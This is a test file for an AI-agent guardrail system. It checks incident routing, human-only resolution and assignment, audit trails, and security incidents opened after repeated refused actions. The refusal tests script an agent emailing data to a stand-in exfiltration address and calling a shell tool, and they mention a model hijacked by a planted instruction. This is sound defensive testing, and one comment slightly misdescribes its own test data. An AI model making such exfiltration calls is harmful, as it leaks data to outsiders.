// Incidents: opened once per (run, kind, key) and routed to the workflow owner of their boundary,
// resolved by people only, and a policy-violations incident when a run keeps hitting policy.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AirlockError } from '../../src/errors.js';
import { assignIncident, checkRefusals, openIncident, resolveIncident } from '../../src/orchestration/incidents.js';
import type { RunRecord } from '../../src/store/store.js';
import type { RunId } from '../../src/types.js';
import { openHostile, recordsOf, refund, type Hostile } from '../security/harness.js';

let h: Hostile;
let run: RunRecord;
beforeAll(async () => {
  h = await openHostile();
  run = await h.run([{ tool: 'tickets.get_ticket', args: { ticket_id: 'T-311' } }]);
});
afterAll(async () => {
  await h?.close();
});

describe('opening incidents', () => {
  it('routes each kind to the workflow owner of its boundary and audits it on the run', async () => {
    const spec = { runId: run.id, title: 't', evidence: { seq: 1 } };
    const v = await openIncident(h.a, { ...spec, kind: 'verification-failed', key: 'c1' });
    const r = await openIncident(h.a, { ...spec, kind: 'rollback-failed', key: 'effect-1' });
    const p = await openIncident(h.a, { ...spec, kind: 'policy-violations', key: 'x' });
    expect([v, r, p].map((x) => [x.opened, x.incident.boundary, x.incident.owner])).toEqual([
      [true, 'domain', 'dana@acme.example'],
      [true, 'platform', 'ops-team@acme.example'],
      [true, 'security', 'security@acme.example'],
    ]);
    expect(v.incident).toMatchObject({ runId: run.id, status: 'open', resolvedAt: null, resolvedBy: null, resolution: null, evidence: { seq: 1 } });
    const mine = new Set([v.incident.id, r.incident.id, p.incident.id]);
    const opened = recordsOf(await h.audit(run.id), 'incident.opened').filter((o) => mine.has(o.body['incidentId'] as string));
    expect(opened.map((o) => o.body['incidentId'])).toEqual([v.incident.id, r.incident.id, p.incident.id]);
    expect(opened[0]?.body).toMatchObject({ kind: 'verification-failed', boundary: 'domain', owner: 'dana@acme.example' });
  });

  it('is idempotent per (run, kind, key) while open; a recurrence after resolution opens a new one', async () => {
    const spec = { runId: run.id, kind: 'rollback-failed' as const, key: 'effect-42', title: 'could not undo', evidence: null };
    const first = await openIncident(h.a, spec);
    const before = (await h.audit(run.id)).length;
    const again = await openIncident(h.a, { ...spec, title: 'could not undo, again' });
    expect(again).toEqual({ incident: first.incident, opened: false });
    expect(await h.audit(run.id)).toHaveLength(before);
    expect((await openIncident(h.a, { ...spec, key: 'effect-43' })).opened).toBe(true);

    expect((await resolveIncident(h.a, first.incident.id, h.a.principal('user:sam'), 'connector restarted')).kind).toBe('resolved');
    const recurrence = await openIncident(h.a, spec);
    expect(recurrence.opened).toBe(true);
    expect(recurrence.incident.id).not.toBe(first.incident.id);
  });

  it('needs a run that exists', async () => {
    await expect(openIncident(h.a, { runId: 'run_missing' as RunId, kind: 'verification-failed', title: 't', evidence: null })).rejects.toMatchObject({ code: 'not-found' });
  });
});

describe('resolving incidents', () => {
  it('people only, with a note, once; every attempt is audited', async () => {
    const { incident } = await openIncident(h.a, { runId: run.id, kind: 'verification-failed', key: 'resolve-me', title: 't', evidence: null });
    for (const who of ['agent:refund-bot', 'service:ops-service']) {
      const res = await resolveIncident(h.a, incident.id, h.a.principal(who), 'all good');
      expect(res).toMatchObject({ kind: 'refused', status: 403 });
    }
    expect(await resolveIncident(h.a, incident.id, h.a.principal('user:dana'), '   ')).toMatchObject({ kind: 'refused', status: 422 });
    expect((await h.a.store.getIncident(incident.id))?.status).toBe('open');

    const res = await resolveIncident(h.a, incident.id, h.a.principal('user:dana'), ' the ticket was fixed by hand ');
    expect(res.kind).toBe('resolved');
    const stored = await h.a.store.getIncident(incident.id);
    expect(stored).toMatchObject({ status: 'resolved', resolvedBy: 'user:dana', resolution: 'the ticket was fixed by hand', resolvedAt: expect.any(String) });
    expect(await resolveIncident(h.a, incident.id, h.a.principal('user:priya'), 'me too')).toMatchObject({ kind: 'refused', status: 409 });

    const records = (await h.audit(run.id)).filter((r) => r.body['incidentId'] === incident.id);
    expect(records.map((r) => [r.type, r.principal])).toEqual([
      ['incident.opened', null],
      ['incident.refused', 'agent:refund-bot'],
      ['incident.refused', 'service:ops-service'],
      ['incident.refused', 'user:dana'],
      ['incident.resolved', 'user:dana'],
      ['incident.refused', 'user:priya'],
    ]);
  });

  it('an unknown incident is a not-found error', async () => {
    await expect(resolveIncident(h.a, 'inc_nope', h.a.principal('user:dana'), 'x')).rejects.toBeInstanceOf(AirlockError);
  });
});

describe('assigning incidents', () => {
  it('people assign open incidents to declared people only; each attempt is audited; a resolved one stays as it is', async () => {
    const { incident } = await openIncident(h.a, { runId: run.id, kind: 'verification-failed', key: 'assign-me', title: 't', evidence: null });
    expect(incident.assignee).toBeUndefined();
    expect(await assignIncident(h.a, incident.id, h.a.principal('agent:refund-bot'), 'user:dana')).toMatchObject({ kind: 'refused', status: 403 });
    expect(await assignIncident(h.a, incident.id, h.a.principal('user:sam'), 'agent:refund-bot')).toMatchObject({ kind: 'refused', status: 422 });
    expect(await assignIncident(h.a, incident.id, h.a.principal('user:sam'), 'user:mallory')).toMatchObject({ kind: 'refused', status: 422 });
    expect((await h.a.store.getIncident(incident.id))?.assignee).toBeUndefined();

    const first = await assignIncident(h.a, incident.id, h.a.principal('user:sam'), 'dana');
    expect(first).toMatchObject({ kind: 'assigned', incident: { assignee: 'user:dana', status: 'open' } });
    const second = await assignIncident(h.a, incident.id, h.a.principal('user:dana'), 'user:priya');
    expect(second).toMatchObject({ kind: 'assigned', incident: { assignee: 'user:priya', assignedAt: expect.any(String) } });

    expect((await resolveIncident(h.a, incident.id, h.a.principal('user:priya'), 'looked at it')).kind).toBe('resolved');
    expect(await assignIncident(h.a, incident.id, h.a.principal('user:sam'), 'user:sam')).toMatchObject({ kind: 'refused', status: 409 });
    expect(await h.a.store.getIncident(incident.id)).toMatchObject({ status: 'resolved', assignee: 'user:priya' });

    const records = (await h.audit(run.id)).filter((r) => r.body['incidentId'] === incident.id);
    expect(records.map((r) => [r.type, r.principal, r.body['assignee'] ?? r.body['attempted'] ?? null])).toEqual([
      ['incident.opened', null, null],
      ['incident.refused', 'agent:refund-bot', 'assign'],
      ['incident.refused', 'user:sam', 'assign'],
      ['incident.refused', 'user:sam', 'assign'],
      ['incident.assigned', 'user:sam', 'user:dana'],
      ['incident.assigned', 'user:dana', 'user:priya'],
      ['incident.resolved', 'user:priya', null],
      ['incident.refused', 'user:sam', 'assign'],
    ]);
    expect(records.find((r) => r.body['assignee'] === 'user:priya')?.body['previous']).toBe('user:dana');
  });

  it('the store assigns compare-and-set on the assignee seen: a stale assignment changes nothing', async () => {
    const { incident } = await openIncident(h.a, { runId: run.id, kind: 'verification-failed', key: 'assign-race', title: 't', evidence: null });
    const at = new Date().toISOString();
    expect(await h.a.store.updateIncident(incident.id, 'open', { status: 'open', assignee: 'user:dana', assignedAt: at }, null)).toMatchObject({ assignee: 'user:dana' });
    // A second writer that also saw "nobody" loses.
    expect(await h.a.store.updateIncident(incident.id, 'open', { status: 'open', assignee: 'user:sam', assignedAt: at }, null)).toBeNull();
    expect((await h.a.store.getIncident(incident.id))?.assignee).toBe('user:dana');
  });
});

describe('repeated refusals', () => {
  const exfil = { tool: 'mail.send', args: { to: 'audit@exfil-partner.example', subject: 'x', body: 'y' } };

  it('opens a security incident once a run has `threshold` refused attempts of any kind, and only once', async () => {
    const two = await h.run([exfil, refund({ amount_cents: 90000 })]);
    expect(recordsOf(await h.audit(two.id), 'action.not-executed').map((r) => r.body['why'])).toEqual(['denied', 'denied']);
    expect(await checkRefusals(h.a, two.id)).toBeNull();
    // A lower threshold counts the same two.
    const low = await checkRefusals(h.a, two.id, 2);
    expect(low).toMatchObject({ kind: 'policy-violations', boundary: 'security', owner: 'security@acme.example', status: 'open' });

    const three = await h.run([exfil, exfil, refund({ amount_cents: 90000 })]);
    const incident = await checkRefusals(h.a, three.id);
    expect(incident).toMatchObject({ runId: three.id, kind: 'policy-violations', owner: 'security@acme.example' });
    const evidence = incident!.evidence as { threshold: number; refused: { tool: string; why: string; policyIds: string[] }[] };
    expect(evidence.threshold).toBe(3);
    expect(evidence.refused.map((d) => d.tool)).toEqual(['mail.send', 'mail.send', 'payments.refund']);
    expect(evidence.refused[0]?.policyIds).toContain('mail-internal-only');
    expect(evidence.refused[2]?.policyIds).toContain('refund-cap');

    // Called again at another run end (a resume), and after it was resolved: still the one incident.
    expect((await checkRefusals(h.a, three.id))?.id).toBe(incident!.id);
    await resolveIncident(h.a, incident!.id, h.a.principal('user:dana'), 'the model was hijacked by a planted instruction; reported');
    expect((await checkRefusals(h.a, three.id))?.id).toBe(incident!.id);
    expect((await h.a.store.listIncidents({ runId: three.id })).filter((i) => i.kind === 'policy-violations')).toHaveLength(1);
    expect(recordsOf(await h.audit(three.id), 'incident.opened').filter((r) => r.body['kind'] === 'policy-violations')).toHaveLength(1);
  });

  it('counts refusals by the contract and unknown tools too: three invalid refunds open the incident', async () => {
    // Three 9,999 EUR refunds the contract refuses (an amount over its schema maximum, or not a number), none reaching policy.
    const run = await h.run([refund({ amount_cents: 'lots' }), { tool: 'shell.exec', args: {} }, refund({ amount_cents: -999_900 })]);
    expect(recordsOf(await h.audit(run.id), 'action.not-executed').map((r) => r.body['why'])).toEqual(['invalid-arguments', 'unknown-tool', 'invalid-arguments']);
    const incident = await checkRefusals(h.a, run.id);
    expect(incident).toMatchObject({ kind: 'policy-violations', boundary: 'security' });
    expect((incident!.evidence as { refused: { why: string }[] }).refused.map((r) => r.why)).toEqual(['invalid-arguments', 'unknown-tool', 'invalid-arguments']);
  });

  it('refuses a threshold below 1', async () => {
    await expect(checkRefusals(h.a, run.id, 0)).rejects.toMatchObject({ code: 'input' });
  });
});
